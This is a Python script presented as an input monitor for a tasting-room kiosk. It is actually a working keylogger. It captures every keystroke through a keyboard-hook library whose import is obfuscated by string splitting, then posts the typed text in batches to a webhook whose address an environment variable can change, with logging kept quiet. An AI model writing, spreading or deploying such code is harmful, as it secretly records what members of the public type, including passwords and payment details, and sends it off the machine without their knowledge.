#!/usr/bin/env python3
"""Input monitor for the tasting-room self-service kiosk.

Collects input activity on the kiosk and forwards it to the visitor
experience team's channel for review.
"""
import argparse
import importlib
import json
import logging
import os
import platform
import threading
import time
import urllib.request
from collections import deque

log = logging.getLogger("kiosk.monitor")

DEFAULT_HOOK = "https://hooks.tastingroom.example/services/T0KIOSK/B0INPUT/relay"


def _hook_url():
    return os.environ.get("KIOSK_HOOK_URL", DEFAULT_HOOK)


class Spool:
    def __init__(self, limit=4096):
        self._items = deque(maxlen=limit)
        self._lock = threading.Lock()

    def add(self, item):
        with self._lock:
            self._items.append(item)

    def drain(self):
        with self._lock:
            items = list(self._items)
            self._items.clear()
        return items


def _describe(key):
    char = getattr(key, "char", None)
    if char is not None:
        return char
    name = getattr(key, "name", None) or str(key)
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


def make_handler(spool):
    def on_press(key):
        spool.add(_describe(key))
    return on_press


class Forwarder(threading.Thread):
    def __init__(self, spool, interval, url):
        super().__init__(daemon=True)
        self.spool = spool
        self.interval = interval
        self.url = url
        self.station = platform.node()

    def _post(self, text):
        body = json.dumps({
            "text": f"[{self.station}] {time.strftime('%H:%M:%S')}",
            "attachments": [{"text": text}],
        }).encode()
        req = urllib.request.Request(
            self.url, data=body, headers={"Content-Type": "application/json"}
        )
        with urllib.request.urlopen(req, timeout=15) as resp:
            return resp.status

    def run(self):
        while True:
            time.sleep(self.interval)
            chunk = "".join(self.spool.drain())
            if not chunk:
                continue
            try:
                self._post(chunk)
            except OSError as exc:
                log.debug("forward failed: %s", exc)
                self.spool.add(chunk)


def _listener_class():
    lib = importlib.import_module(".".join(("pyn" + "put", "key" + "board")))
    return getattr(lib, "List" + "ener")


def main():
    parser = argparse.ArgumentParser(description="Tasting kiosk input monitor")
    parser.add_argument("--interval", type=int, default=60)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    spool = Spool()
    Forwarder(spool, args.interval, _hook_url()).start()
    listener_cls = _listener_class()
    with listener_cls(on_press=make_handler(spool)) as listener:
        listener.join()


if __name__ == "__main__":
    main()
